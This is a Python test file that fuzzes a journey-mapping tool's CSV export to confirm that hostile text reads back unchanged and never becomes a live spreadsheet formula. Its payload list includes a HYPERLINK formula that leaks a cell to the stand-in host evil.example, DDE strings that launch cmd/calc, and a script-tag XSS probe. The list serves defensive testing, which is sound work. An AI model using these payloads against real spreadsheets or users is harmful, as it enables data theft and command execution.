"""The CSV export under hostile touchpoint text: every cell reads back as written, and no cell is a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from journeys.io import exports
from journeys.io.exports import spreadsheet_safe
from journeys.model.text import bad_character
from journeys.model.validation import validate
from tests.strategies import CHARACTERS, make_journey

FUZZ_CSV = 200
"""Journeys with hostile text exported to CSV and read back per run (the README quotes it)."""

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    'a "quoted", comma',
    "line one\nline two",
    "cr\rlf\r\n",
    "; semicolon; list",
    "'already quoted",
    "<script>alert(1)</script>",
    "Kündigung 🚲",
]
# a tab or line break cannot be in a name, owner, channel or stage (journeys.model.text): validation refuses it
STORABLE = [text for text in HOSTILE if bad_character(text) is None]
TEXT = st.one_of(
    st.sampled_from(STORABLE),
    st.tuples(st.sampled_from(STORABLE), st.text(CHARACTERS, max_size=20)).map("".join),
    st.text(CHARACTERS, min_size=1, max_size=40),
).filter(str.strip)


def read_back(text: str) -> pd.DataFrame:
    """The CSV as a spreadsheet-minded reader sees it: every cell a string, nothing turned into NaN."""
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


@settings(max_examples=FUZZ_CSV, deadline=None)
@given(names=st.lists(TEXT, min_size=3, max_size=3), owners=st.lists(TEXT, min_size=3, max_size=3),
       channel=TEXT, stage=TEXT, persona=TEXT)  # fmt: skip
def test_hostile_text_reads_back_the_same_and_is_never_a_formula(names, owners, channel, stage, persona):
    """Commas, quotes, line breaks and formula starters survive the CSV; formula starters get a leading quote."""
    G = make_journey(3, personas=1)
    G.graph["stages"][0]["name"] = stage
    G.graph["personas"][0]["name"] = persona
    for key, name, owner in zip(G, names, owners, strict=True):
        G.nodes[key].update(name=name, owner=owner, channel=channel, stage="before", personas=["persona-1"])
    assert validate(G) == []
    text = exports.to_csv(G)
    frame = read_back(text)
    assert len(frame) == 3
    assert list(frame["name"]) == [spreadsheet_safe(n) for n in names]
    assert list(frame["owner"]) == [spreadsheet_safe(o) for o in owners]
    assert set(frame["channel"]) == {spreadsheet_safe(channel)}
    assert set(frame["stage_name"]) == {spreadsheet_safe(stage)}
    assert set(frame["personas"]) == {spreadsheet_safe(persona)}
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 4  # the standard library's reader agrees: a header and three rows
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row if not _number(cell))


def test_tabs_and_line_breaks_never_reach_a_csv_cell_and_would_be_quoted():
    """A name starting with a tab or CR is refused by validation; were it exported, it would still get its quote."""
    for text in set(HOSTILE) - set(STORABLE):
        G = make_journey(1)
        G.nodes["tp-1"]["name"] = text
        assert [(p.code, p.message) for p in validate(G)] == [("bad_text", "control")]
        if text.startswith(("\t", "\r")):
            assert spreadsheet_safe(text) == "'" + text


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers():
    """Negative numbers (the gap, emotions) are numbers in the CSV, not text with a quote."""
    G = make_journey(3, personas=1)
    G.nodes["tp-1"].update(expectation=5, experience=2, emotions={"persona-1": -2})
    frame = pd.read_csv(io.StringIO(exports.to_csv(G)))
    row = frame.set_index("touchpoint").loc["tp-1"]
    assert (row["gap"], row["emotion_persona-1"]) == (-3, -2)


def test_formula_injection_is_defused():
    """A touchpoint named like a formula is shown as that text in a spreadsheet, not run."""
    G = make_journey(2, personas=1)
    G.nodes["tp-1"]["name"] = '=HYPERLINK("http://evil.example","x")'
    G.nodes["tp-2"]["owner"] = "@SUM(1+1)"
    frame = read_back(exports.to_csv(G)).set_index("touchpoint")
    assert frame.loc["tp-1", "name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert frame.loc["tp-2", "owner"] == "'@SUM(1+1)"
